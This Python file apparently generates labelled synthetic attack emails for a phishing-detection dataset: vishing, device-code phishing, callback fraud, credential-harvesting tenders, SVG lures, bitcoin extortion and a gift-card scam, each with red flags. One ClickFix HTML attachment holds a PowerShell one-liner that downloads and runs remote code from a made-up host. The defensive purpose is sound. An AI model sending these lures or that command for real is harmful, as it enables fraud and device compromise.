"""Attack messages, English (09-16)."""
from common import *

F = "attack"


@message(F, "en", "teams-helpdesk-quick-assist-vishing",
         "Remote-access vishing pretext: an 'IT Service Desk' on an attacker-owned Microsoft 365 tenant (examplegroupsupport.onmicrosoft.com) announces a Teams call about a 'spam wave' and asks the user to start Quick Assist and read out the code",
         "External onmicrosoft.com tenant posing as internal IT (internal IT mails through mail-int01 and never via external tenants), "
         "email-bombing follow-up script used by ransomware affiliates (Storm-1811/Black Basta style): pre-announced external Teams call, "
         "Quick Assist session code = full remote control. Compare business/10, the genuine IT notice warning about exactly this.")
def a09():
    r = rng("a09")
    t = timez.local("uk", 2026, 10, 20, 9, 17, 33)
    rcpt = "sarah.patel@example.com"
    frm_addr = "servicedesk@examplegroupsupport.onmicrosoft.com"
    s = infra.m365(r, t, rcpt, prd="eurprd09", tz="uk", tenant_domain="examplegroupsupport.onmicrosoft.com")
    plain = """Hi Sarah,

Since 06:10 this morning our monitoring has flagged an unusual number of newsletter sign-ups and automated messages hitting your mailbox (more than 1,400 so far). This is a known spam-flooding technique and it can fill up your mailbox and hide important messages from customers.

To stop it we need to apply a filtering rule directly on your device. A member of the Example Group Service Desk will call you on Microsoft Teams within the next 30 minutes from the account "Help Desk | Example Group".

Please accept the call. The engineer will ask you to open Quick Assist (press Ctrl + Windows + Q) and read out the 6-digit security code so that the fix can be applied. This takes about 10 minutes and you can keep working afterwards.

Please do not delete the spam messages yourself, we need them for the analysis.

Kind regards,

IT Service Desk
Example Group – Global IT
Würzburg | Birmingham | Verona | Poznań
"""
    html = html_wrap(f'<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:11pt">{p_html(plain)}</div>', "en", charset="utf-8", style="")
    root = Multi("alternative", [Text(plain, "plain", "utf-8", "quoted-printable"), Text(html, "html", "utf-8", "quoted-printable")], exch_bnd(s, 0))
    subj = "Mailbox protection: spam flooding detected on your account - action required today"
    hdr = [rp(frm_addr)] + s["trace"] + exch_headers(
        s, A("IT Service Desk | Example Group", frm_addr, quoted=True), A("Sarah Patel", rcpt, quoted=True), subj, lang="en-GB")
    return hdr, root


@message(F, "en", "device-code-phishing-britline-lookalike",
         "Device-code phishing: 'Oliver Hughes' (real customer contact) from look-alike britlineglazing.co.uk on Google Workspace asks James to enter a code at microsoft.com/devicelogin to open 'revised curtain-wall drawings'",
         "The link itself is genuine Microsoft, but entering an attacker-generated device code signs the attacker's session into the victim's "
         "Microsoft 365 account (OAuth device-authorisation grant abuse); domain lacks the hyphen of the real britline-glazing.co.uk; "
         "15-minute urgency. Compare business/09 (genuine Microsoft security notice).")
def a10():
    r = rng("a10")
    t = timez.local("uk", 2026, 11, 11, 15, 42, 8)
    rcpt = "james.whitfield@example.com"
    frm_addr = "oliver.hughes@britlineglazing.co.uk"
    s = infra.gmail(r, t, rcpt, tz_client="uk")
    code = "FJ6B3KW8L"
    plain = f"""Hi James,

Following our call this morning, I've put the revised CW-04 curtain wall drawings, the updated glass schedule (Rev D) and the programme for Block 2 into a secure Teams workspace for Example UK.

Our IT has locked down external sharing after an incident last month, so you need to verify your Microsoft account once before the files open:

1. Go to https://microsoft.com/devicelogin
2. Enter the code: {code}
3. Sign in with your Example Group Microsoft 365 account

The code is only valid for 15 minutes, so please do it as soon as you see this. If it has expired just reply and I'll send a new one.

Could you get back to me with the revised lead times for the 6.4 laminated units by Friday?

Cheers,
Oliver

Oliver Hughes
Senior Package Manager
Britline Glazing Ltd
Unit 7, Torrington Avenue, Coventry CV4 9AQ
M: 07700 900 418
"""
    html = f"""<div dir="ltr">{p_html(plain).replace('https://microsoft.com/devicelogin', '<a href="https://microsoft.com/devicelogin">https://microsoft.com/devicelogin</a>').replace(code, '<b>' + code + '</b>')}</div>
"""
    root = Multi("alternative", [Text(plain, "plain", "UTF-8", "quoted-printable"), Text(html, "html", "UTF-8", "quoted-printable")], s["bnd"]())
    hdr = [rp(frm_addr)] + s["trace"] + gmail_headers(
        s, A("Oliver Hughes", frm_addr), A("James Whitfield", rcpt),
        "Britline - revised CW-04 drawings (secure access)")
    return hdr, root


@message(F, "en", "callback-toad-norton-renewal",
         "Callback phishing (TOAD): Gmail message with a PDF 'invoice' for a Norton 360 renewal of 389.99 GBP and a phone number to cancel",
         "No link or malware - the payload is the phone call (fake refund, remote-access install, bank fraud); Norton does not bill from "
         "a Gmail account, the recipient never bought it, phone number only in the attachment, random order number; classic TOAD lure.")
def a11():
    r = rng("a11")
    t = timez.local("uk", 2026, 11, 23, 8, 5, 19)
    rcpt = "sarah.patel@example.com"
    frm_addr = "billing.norton.renewals4@gmail.com"
    s = infra.gmail(r, t, rcpt, tz_client="uk")
    phone = "+44 20 7946 0718"
    plain = """Hello Customer,

Thank you for your continued trust. Your subscription has been renewed successfully and the amount will be debited from your account within 24 hours.

Please find your invoice attached for your records.

If you did not authorise this renewal or wish to cancel, please contact our Billing Department using the number shown on the invoice. Refunds are only possible within 24 hours of this notice.

Regards,
Billing Department
"""
    inv = pdf_doc([
        ("h1", "Norton 360 Deluxe - Invoice"),
        ("small", "Invoice No: NTN-48213977-UK   Date: 23/11/2026   Customer ID: 7719-3386-01"),
        ("gap", ""),
        ("p", "Bill to: sarah.patel@example.com"),
        ("mono", "Product                               Qty   Term      Amount\nNorton 360 Deluxe (5 devices)          1   3 years   GBP 349.99\nPremium Tech Support                    1   3 years   GBP  40.00\n\nTOTAL CHARGED                                        GBP 389.99"),
        ("p", "Payment method: Auto-renewal (card on file)"),
        ("gap", ""),
        ("b", f"To cancel this order and request a refund please call our billing helpline: {phone}"),
        ("small", "Lines open Monday to Saturday 8am-8pm. Refund requests must be made within 24 hours of the transaction."),
    ], title="Invoice", creator="Canva", producer="Canva")
    root = Multi("mixed", [Multi("alternative", [Text(plain, "plain", "UTF-8", "7bit"),
                                                 Text(f'<div dir="ltr">{p_html(plain)}</div>\n', "html", "UTF-8", "7bit")], s["bnd"]()),
                           Attach(inv, "application/pdf", "Invoice_NTN-48213977.pdf")], s["bnd"]())
    hdr = [rp(frm_addr)] + s["trace"] + gmail_headers(
        s, A("Norton Billing", frm_addr), rcpt, "Your order #NTN-48213977 has been processed")
    return hdr, root


@message(F, "en", "itt-tender-portal-credential-phish",
         "Credential phishing tailored to the trade: fake 'Invitation to Tender' for a curtain-walling package from look-alike midlandsbuild-partners.co.uk (real customer: midlandsbuild.co.uk) via Amazon SES; 'tender documents' behind a Microsoft 365 login on workers.dev",
         "Look-alike domain of a real main contractor, bulk ESP, link to *.workers.dev (abused Cloudflare service) demanding company Microsoft 365 "
         "credentials to 'view bid documents'; genuine tenders come from midlandsbuild.co.uk with documents on their own SharePoint "
         "(see business/14).")
def a12():
    r = rng("a12")
    t = timez.local("uk", 2026, 11, 12, 10, 30, 41)
    rcpt = "james.whitfield@example.com"
    frm_addr = "tenders@midlandsbuild-partners.co.uk"
    s = infra.ses(r, t, rcpt, tz="uk")
    link = "https://mbp-tender-docs.bidroom-eu.workers.dev/itt/MBP-ITT-2611?org=example-uk"
    plain = f"""Midlands Build Partners Ltd – Invitation to Tender

Project: Eastside Quarter, Block C (14-storey residential, Birmingham B5)
Package: Curtain walling, glazing and aluminium windows (NBS H11 / L10)
Tender reference: MBP-ITT-2611
Return date: Friday 4 December 2026, 12:00

Dear James,

Further to your pre-qualification, Midlands Build Partners Ltd is pleased to invite Example UK Ltd to tender for the above package.

The tender pack (drawings, specification, bill of quantities, programme and form of tender) has been published on our secure tender portal. For confidentiality reasons access is restricted to verified bidders and requires sign-in with your company Microsoft 365 account.

View tender documents:
{link}

Mid-tender queries must be raised through the portal by 25 November 2026. Please confirm your intention to bid within 5 working days.

Kind regards,

Rachel Moore
Commercial Manager – Procurement
Midlands Build Partners Ltd
"""
    html = html_wrap(f"""<table width="620" style="border-top:4px solid #0b6e4f"><tr><td style="padding:18px">
<p style="font-size:16pt;color:#0b6e4f"><b>Invitation to Tender</b></p>
<table style="font-size:10pt"><tr><td><b>Project</b></td><td>Eastside Quarter, Block C (14-storey residential, Birmingham B5)</td></tr>
<tr><td><b>Package</b></td><td>Curtain walling, glazing and aluminium windows (NBS H11 / L10)</td></tr>
<tr><td><b>Reference</b></td><td>MBP-ITT-2611</td></tr><tr><td><b>Return date</b></td><td>Friday 4 December 2026, 12:00</td></tr></table>
<p>Dear James,</p><p>Further to your pre-qualification, Midlands Build Partners Ltd is pleased to invite Example UK Ltd to tender for the above package.</p>
<p>The tender pack (drawings, specification, bill of quantities, programme and form of tender) has been published on our secure tender portal. For confidentiality reasons access is restricted to verified bidders and requires sign-in with your company Microsoft 365 account.</p>
<p><a href="{link}" style="background:#0b6e4f;color:#fff;padding:9px 18px;text-decoration:none">View tender documents</a></p>
<p>Mid-tender queries must be raised through the portal by 25 November 2026. Please confirm your intention to bid within 5 working days.</p>
<p>Kind regards,<br><br>Rachel Moore<br>Commercial Manager &ndash; Procurement<br>Midlands Build Partners Ltd</p></td></tr></table>""", "en", charset="utf-8")
    root = Multi("alternative", [Text(plain, "plain", "UTF-8", "quoted-printable"), Text(html, "html", "UTF-8", "quoted-printable")], s["bnd"]())
    hdr = [rp(f"0102019{rstr(r, HEX, 9)}-{rstr(r, HEX, 8)}-000000@eu-west-1.amazonses.com")] + s["trace"] + H(
        ("From", A("Rachel Moore - Midlands Build Partners", frm_addr)),
        ("To", A("James Whitfield", rcpt)),
        ("Subject", "Invitation to Tender - Eastside Quarter Block C - Curtain Walling & Glazing (MBP-ITT-2611)"),
        ("Date", s["date"]),
        ("Message-ID", s["mid"]),
    ) + s["xh"]
    return hdr, root


@message(F, "en", "svg-remittance-compromised-joinery",
         "SVG attachment: 'Britline Glazing Ltd - Accounts Payable' remittance advice for 24,906.15 GBP sent from the compromised cPanel mailbox of an unrelated joinery; the .svg renders a 'View remittance' button to a phishing page",
         "Display name of a real customer on an unrelated sender domain (hollisreedjoinery.co.uk, authenticated cPanel account = compromised), "
         "remittance as an SVG image file (remittances are PDFs), SVG contains an external link to a credential page. Compare business/13, "
         "the genuine Britline remittance.")
def a13():
    r = rng("a13")
    t = timez.local("uk", 2026, 10, 30, 13, 55, 2)
    rcpt = "sarah.patel@example.com"
    frm_addr = "accounts@hollisreedjoinery.co.uk"
    s = infra.cpanel_exim(r, t, rcpt, "lon3.uk-cpanel-hosting.net", "185.151.28.93", frm_addr, "102.89.34.170", tz="uk")
    link = "https://britline-remit.b-cdn.net/remittance/view?ref=BGL-PAY-10472&m=c2FyYWgucGF0ZWxAZXhhbXBsZS5jb20="
    svg = f"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="820" height="520" viewBox="0 0 820 520">
  <rect width="820" height="520" fill="#f3f4f6"/>
  <rect x="60" y="50" width="700" height="420" rx="6" fill="#ffffff" stroke="#d1d5db"/>
  <text x="100" y="110" font-family="Segoe UI, Arial" font-size="26" fill="#111827">Remittance Advice</text>
  <text x="100" y="150" font-family="Segoe UI, Arial" font-size="15" fill="#374151">Britline Glazing Ltd - Payment ref BGL-PAY-10472</text>
  <text x="100" y="180" font-family="Segoe UI, Arial" font-size="15" fill="#374151">Payee: Example UK Ltd   Amount: GBP 24,906.15   Value date: 30/10/2026</text>
  <text x="100" y="240" font-family="Segoe UI, Arial" font-size="14" fill="#6b7280">This document is protected. Sign in with your work account to view the</text>
  <text x="100" y="262" font-family="Segoe UI, Arial" font-size="14" fill="#6b7280">full remittance including the invoice breakdown.</text>
  <a xlink:href="{link.replace('&', '&amp;')}" href="{link.replace('&', '&amp;')}" target="_blank">
    <rect x="100" y="300" width="260" height="48" rx="4" fill="#0f6cbd"/>
    <text x="128" y="331" font-family="Segoe UI, Arial" font-size="17" fill="#ffffff">View remittance (PDF)</text>
  </a>
</svg>
"""
    plain = """Good afternoon,

Please find attached remittance advice for payment released today.

Kind regards

Accounts Payable
Britline Glazing Ltd
"""
    root = Multi("mixed", [Text(plain, "plain", "us-ascii", "7bit"),
                           Attach(svg.encode(), "image/svg+xml", "Remittance_BGL-PAY-10472.svg")],
                 phpmailer_boundary(r))
    hdr = [rp(frm_addr)] + s["trace"] + H(
        ("Date", s["date"]),
        ("To", rcpt),
        ("From", A("Britline Glazing Ltd - Accounts Payable", frm_addr)),
        ("Subject", "Remittance Advice - BGL-PAY-10472 - GBP 24,906.15"),
        ("Message-ID", phpmailer_mid(r, "hollisreedjoinery.co.uk")),
        ("X-Mailer", "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"),
    ) + s["xh"]
    return hdr, root


@message(F, "en", "clickfix-proforma-html",
         "ClickFix: 'proforma invoice' from a look-alike Chinese window-hardware supplier with an HTML attachment that fakes a document-viewer error and tells the user to press Win+R, paste a PowerShell command and press Enter",
         "The HTML attachment instructs the user to run a command themselves (Win+R / Ctrl+V / Enter) that downloads and executes code "
         "(iex/iwr) - the ClickFix technique; fresh domain on a DigitalOcean droplet, unsolicited proforma. The attachment contains no script; "
         "the command points to a fictitious host.")
def a14():
    r = rng("a14")
    t = timez.local("uk", 2026, 12, 8, 8, 47, 30)
    rcpt = "james.whitfield@example.com"
    frm_addr = "linda.chen@jinhao-hardware-co.com"
    s = infra.postfix_auth(r, t, rcpt, "mail.jinhao-hardware-co.com", None, "159.223.18.204",
                           "mail.jinhao-hardware-co.com", "103.151.44.9", frm_addr, tz="uk")
    cmd = 'powershell -w h -nop -c "iex (iwr https://docview-cdn.jinhao-pi.com/v/77213 -UseBasicParsing)"  # Document viewer repair ID 77213'
    att = f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Proforma Invoice PI-EGUK-77213 - Document Viewer</title>
<style>body{{font-family:Segoe UI,Arial,sans-serif;background:#eef1f5;margin:0}}.box{{max-width:620px;margin:60px auto;background:#fff;border:1px solid #cfd6de;padding:28px}}
code{{display:block;background:#1e1e1e;color:#dcdcdc;padding:10px;font-size:12px;word-break:break-all}}h2{{color:#c42b1c}}</style></head>
<body><div class="box">
<h2>&#9888; The document could not be displayed</h2>
<p><b>PI-EGUK-77213.pdf</b> (Foshan Jinhao Hardware Co., Ltd.)</p>
<p>Your browser is missing the secure document viewer component (error 0x80070643). Follow the steps below to repair it. This is required only once.</p>
<ol><li>Select the command below and copy it (Ctrl + C)</li>
<li>Press <b>Windows + R</b></li>
<li>Paste with <b>Ctrl + V</b> and press <b>Enter</b></li>
<li>Reopen this file</li></ol>
<code>{cmd}</code>
<p style="font-size:12px;color:#666">Verification ID: 77213 &middot; Cloud Document Services</p>
</div></body></html>
"""
    plain = """Dear James,

Good day! Hope you are doing well.

As discussed with your purchasing team, please find attached the proforma invoice for the tilt & turn hardware sets (RAL 9016 and RAL 7016) and the multipoint locking gearboxes for your 2027 programme.

Kindly check the quantities and confirm the order so that we can arrange production before Chinese New Year. The attached file opens in your browser.

Best regards,

Linda Chen
Sales Manager, Export Department
Foshan Jinhao Hardware Co., Ltd.
No. 18 Xingye Road, Nanhai District, Foshan, Guangdong, China
Tel/WhatsApp: +86 757 8631 2270
"""
    root = Multi("mixed", [Text(plain, "plain", "utf-8", "base64"),
                           Attach(att.encode("utf-8"), 'text/html; charset="utf-8"', "PI-EGUK-77213.html")], tb_boundary(r))
    hdr = [rp(frm_addr)] + s["trace"] + H(
        ("Message-ID", tb_mid(r, "jinhao-hardware-co.com")),
        ("Date", s["date"]),
        ("MIME-Version", "1.0"),
        ("User-Agent", "Mozilla Thunderbird"),
        ("Content-Language", "en-US"),
        ("From", A("Linda Chen", frm_addr)),
        ("To", rcpt),
        ("Subject", "Proforma Invoice PI-EGUK-77213 / tilt & turn hardware 2027"),
    )
    return hdr, root


@message(F, "en", "extortion-spoofed-self-bitcoin",
         "Extortion: message with the victim's own address as sender (spoofed, injected directly from a residential IP), claims device compromise and recordings, demands 1,450 USD in Bitcoin to a bech32 address within 48 hours",
         "From = To spoofing from an external dial-up host (no relay of example.com), generic threat text, bitcoin ransom with deadline; "
         "bulk extortion scam (base64 body to evade keyword filters).")
def a15():
    r = rng("a15")
    t = timez.local("uk", 2026, 10, 24, 3, 12, 57)
    rcpt = "sarah.patel@example.com"
    ip = "187.190.18.22"
    trace = [infra.mx_received(r, "[192.168.1.64]", "dsl-187-190-18-22-dyn.prod-infinitum.com.mx", ip, rcpt, t, tls="none")]
    plain = f"""Hello!

I have to share bad news with you.
Some months ago I gained access to the devices you use for browsing the internet. After that I started tracking your internet activities.

Here is the sequence of events:
Some time ago I bought access to email accounts from hackers (nowadays it is quite simple to buy it online). I easily managed to log in to your email account ({rcpt}).
One week later I installed a trojan on the operating systems of all the devices you use to access your email. This software gives me access to all controls of your devices (microphone, camera, keyboard and screen). I downloaded all your data, photos, browsing history and work files to my servers.

I also made video recordings of you and of your screen during your private browsing. I can send these to all of your colleagues, customers and contacts in your address book with one click.

If you want to prevent this, transfer the amount of 1450 USD to my bitcoin wallet (if you do not know how to do this, search Google for "buy bitcoin").
My bitcoin wallet (BTC): {BTC}

After receiving the payment I will delete the videos and you will never hear from me again. You have 48 hours (2 days). I receive a notification when you read this letter, the timer starts now.

Do not try to contact anyone or reply to this message - the sender address is yours, I sent it from your account. If I see that you have shared this message, the videos will be published immediately.
"""
    root = Text(plain, "plain", "utf-8", "base64")
    hdr = [rp(rcpt)] + trace + H(
        ("Message-ID", f"<{rstr(r, '0123456789ABCDEF', 8)}.{rstr(r, '0123456789ABCDEF', 4)}{r.randint(1000, 9999)}@example.com>"),
        ("From", A("", rcpt)),
        ("To", rcpt),
        ("Subject", "Your account has been hacked! You need to unlock it."),
        ("Date", timez.rfc(t, "fixed-6")),
        ("X-Priority", "3"),
    )
    return hdr, root


@message(F, "en", "gift-cards-ceo-gmail",
         "Gift-card scam: 'Matthias Böhm' from a Gmail account asks the UK office manager to buy eight 200 GBP Amazon gift cards 'for key customers' and to stay discreet",
         "CEO's name on a free-mail address, unusual request outside procurement, gift cards (untraceable), secrecy and 'in a meeting, can't take calls'; "
         "classic gift-card BEC.")
def a16():
    r = rng("a16")
    t = timez.local("uk", 2026, 12, 11, 10, 22, 36)
    rcpt = "james.whitfield@example.com"
    frm_addr = "m.boehm.office.eg@gmail.com"
    s = infra.gmail(r, t, rcpt, tz_client="de")
    plain = """James,

Are you at your desk? I need you to handle a small task for me discreetly today.

We want to thank some of our key customers in the UK before Christmas. I need 8 Amazon gift cards at £200 each. Can you purchase them this morning? It will be reimbursed through your expense report.

I'm in a meeting with the bank and can't take calls, just reply here and I will tell you how to send the codes.

Thanks,
Matthias

Sent from my iPhone
"""
    root = Multi("alternative", [Text(plain, "plain", "UTF-8", "quoted-printable"),
                                 Text(f'<div dir="auto">{p_html(plain)}</div>\n', "html", "UTF-8", "quoted-printable")], s["bnd"]())
    hdr = [rp(frm_addr)] + s["trace"] + gmail_headers(s, A("Matthias Böhm", frm_addr, "UTF-8", "B"), rcpt, "Quick favour")
    return hdr, root
